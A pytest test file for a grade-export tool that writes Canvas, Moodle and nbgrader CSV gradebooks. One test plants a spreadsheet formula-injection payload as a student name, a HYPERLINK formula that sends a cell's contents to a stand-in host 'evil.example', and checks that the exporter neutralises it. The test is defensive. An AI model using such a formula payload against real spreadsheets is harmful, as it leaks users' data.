"""dlmed export: the gradebook in the CSV formats Canvas's and Moodle's gradebook import accept, and nbgrader's grades.csv.

The formats as the platforms document them:

- Canvas, "How do I import grades in the Gradebook?" (Canvas Instructor Guide; also e.g.
  Ohio State's guide "Import a CSV file into Carmen grades"): the columns ``Student``, ``ID``,
  ``SIS User ID``, ``SIS Login ID``, ``Section``, then one column per assignment, headed
  ``Assignment name`` (a new assignment) or ``Assignment name (assignment id)``; a student
  is matched by ``ID`` (the Canvas user id), the SIS ids or the name; Canvas's own export has
  a ``Points Possible`` row first, which the import accepts.
- Moodle, "Assignment settings: offline grading worksheet" and "Grade import" (MoodleDocs):
  the assignment's *Upload grading worksheet* matches rows on ``Identifier`` =
  ``Participant <n>`` (the number in the folder names of Moodle's submission zip) and reads
  ``Grade``; the gradebook's *Import, CSV file* maps one column to a user field (e-mail,
  username, ID number) and others to grade items.
- nbgrader's ``grades.csv``: ``nbgrader export``'s ``CsvExportPlugin`` columns.

The gradebook here is built with nbgrader's API (a lab with two autograded and one written
answer), the platform ids come from a Canvas zip and a Moodle zip as ``dlmed grade --zip``
keeps them in ``downloaded/<lab>/archive/``.
"""

import csv
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from dlmed.grader import export

LAB = "lab1"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Ann")'


def _rows(path: Path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def course(tmp_path):
    """A course root with a gradebook: Canvas students ann and bob, Moodle student cy (hostile names), dee by hand."""
    from nbgrader.api import Gradebook

    root = tmp_path / "course"
    (root / "source" / LAB).mkdir(parents=True)
    (root / "nbgrader_config.py").write_text('c = get_config()\nc.CourseDirectory.course_id = "dlmed-workshop"\n')
    db_url = f"sqlite:///{root / 'gradebook.db'}"
    with Gradebook(db_url, "dlmed-workshop") as gradebook:
        gradebook.add_assignment(LAB)
        gradebook.add_notebook("lab1_nb", LAB)
        gradebook.add_grade_cell("test_a", "lab1_nb", LAB, max_score=2, cell_type="code")
        gradebook.add_grade_cell("test_b", "lab1_nb", LAB, max_score=3, cell_type="code")
        gradebook.add_grade_cell("q1", "lab1_nb", LAB, max_score=4, cell_type="markdown")
        scores = {"ann": (2, 3, 3.5), "bob": (2, 0, None), "Cy_Hostile": (0, 3, 1.0), "dee": (2, 3, 4.0)}
        for student, (a, b, manual) in scores.items():
            extra = {"email": "dee@uni.example", "first_name": "Dee", "last_name": "Doe"} if student == "dee" else {}
            gradebook.add_student(student, **extra)
            gradebook.add_submission(LAB, student)
            for cell, auto in (("test_a", a), ("test_b", b)):
                grade = gradebook.find_grade(cell, "lab1_nb", LAB, student)
                grade.auto_score, grade.needs_manual_grade = auto, False
            written = gradebook.find_grade("q1", "lab1_nb", LAB, student)
            written.auto_score = None
            written.manual_score = manual
            written.needs_manual_grade = manual is None
        gradebook.add_student("eve")  # no submission: 0, as nbgrader exports it
        gradebook.db.commit()
    archive = root / "downloaded" / LAB / "archive"
    archive.mkdir(parents=True)
    with zipfile.ZipFile(archive / "canvas.zip", "w") as canvas:
        canvas.writestr("ann_1001_5001_lab1_mednist_from_scratch.ipynb", "{}")
        canvas.writestr("bob_LATE_1002_5002_lab1_mednist_from_scratch-1.ipynb", "{}")
    with zipfile.ZipFile(archive / "moodle.zip", "w") as moodle:
        moodle.writestr("Cy Hostile_777_assignsubmission_file_/lab1_mednist_from_scratch.ipynb", "{}")
    return root, db_url


def _exported(course, **kwargs):
    root, db_url = course
    grades = export.read_grades(root, LAB, db_url, "dlmed-workshop")
    return grades, export.write_exports(grades, LAB, root / "out", **kwargs)


def test_grades_include_manual_scores_and_map_platform_ids(course):
    """Scores are autograded plus hand-graded; Canvas ids and Moodle participant numbers come back from the zips."""
    grades, _ = _exported(course)
    by_student = {g.student: g for g in grades}
    assert {s: g.score for s, g in by_student.items()} == {"ann": 8.5, "bob": 2.0, "Cy_Hostile": 4.0, "dee": 9.0, "eve": 0.0}
    assert (by_student["ann"].platform, by_student["ann"].platform_id) == ("canvas", "1001")
    assert (by_student["bob"].platform, by_student["bob"].platform_id) == ("canvas", "1002"), "a late Canvas file"
    assert (by_student["Cy_Hostile"].platform, by_student["Cy_Hostile"].platform_id) == ("moodle", "777")
    assert by_student["bob"].needs_manual_grade and not by_student["ann"].needs_manual_grade
    assert all(g.max_score == 9 for g in grades), f"max score: {[g.max_score for g in grades]}"


def test_canvas_csv_has_the_documented_layout(course):
    """Header Student, ID, SIS User ID, SIS Login ID, Section, 'name (id)'; Points Possible; Canvas ids; numbers."""
    _, paths = _exported(course, canvas_assignment="Lab 1 (12345)")
    rows = _rows(paths["canvas"])
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 1 (12345)"], rows[0]
    assert rows[1][0] == "Points Possible" and rows[1][5] == "9", f"points possible row: {rows[1]}"
    body = {row[1] or row[3]: row for row in rows[2:]}
    assert body["1001"][5] == "8.5" and body["1002"][5] == "2", f"Canvas rows by user id: {body}"
    assert body["dee"][0] == "Doe, Dee" and body["dee"][1] == "", "a student without a Canvas id goes by SIS Login ID"
    for row in rows[2:]:
        float(row[5])  # a plain number Canvas reads
    assert len({len(row) for row in rows}) == 1, "every row has the header's columns"


def test_moodle_files_have_the_documented_layout(course):
    """The grading worksheet matches 'Participant <n>' and reads Grade; the gradebook file has an e-mail column."""
    _, paths = _exported(course)
    rows = _rows(paths["moodle"])
    assert rows[0] == export.MOODLE_WORKSHEET_COLUMNS
    assert rows[0][:5] == ["Identifier", "Full name", "Email address", "Status", "Grade"]
    assert len(rows) == 2 and rows[1][0] == "Participant 777" and rows[1][4] == "4" and rows[1][5] == "9", rows
    gradebook_rows = _rows(paths["moodle_gradebook"])
    assert gradebook_rows == [["Email address", "Full name", LAB], ["dee@uni.example", "Dee Doe", "9"]], gradebook_rows


def test_nbgrader_grades_csv_layout(course):
    """grades.csv has nbgrader's export columns and one row per student of the gradebook."""
    _, paths = _exported(course)
    rows = _rows(paths["grades"])
    assert rows[0] == ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
                       "raw_score", "late_submission_penalty", "score", "max_score"]
    scores = {row[3]: float(row[9]) for row in rows[1:]}
    assert scores == {"ann": 8.5, "bob": 2.0, "Cy_Hostile": 4.0, "dee": 9.0, "eve": 0.0}


def test_hostile_names_cannot_become_formulas(course):
    """A name from the platform that is a spreadsheet formula is exported as text ('=...), in every file."""
    from nbgrader.api import Gradebook

    root, db_url = course
    with Gradebook(db_url, "dlmed-workshop") as gradebook:
        student = gradebook.find_student("Cy_Hostile")
        student.first_name, student.last_name, student.email = HOSTILE_NAME, "+1-2", "@SUM(A1:A9)"
        gradebook.db.commit()
    _, paths = _exported(course, canvas_assignment="-2+3")
    for name, path in paths.items():
        for row in _rows(path):
            for value in row:
                assert not value.lstrip(" \"'").startswith(("=", "+", "-", "@")) or value.startswith("'"), (
                    f"{name}.csv: a cell a spreadsheet would run as a formula: {value!r}")
    text = paths["moodle"].read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text, "the hostile name should be kept, neutralised"


def test_export_command(course):
    """`dlmed export lab1` reads the course's gradebook and writes the four files."""
    root, _ = course
    completed = subprocess.run([sys.executable, "-m", "dlmed", "export", LAB, "--root", str(root)],
                               capture_output=True, text=True, timeout=300)
    assert completed.returncode == 0, completed.stdout[-2000:] + completed.stderr[-2000:]
    folder = root / "grading" / LAB / "export"
    assert sorted(p.name for p in folder.iterdir()) == ["canvas.csv", "grades.csv", "moodle.csv", "moodle_gradebook.csv"]
    assert "1 submissions still have written answers to grade" in completed.stdout, completed.stdout
    assert "1002" in (folder / "canvas.csv").read_text(encoding="utf-8")
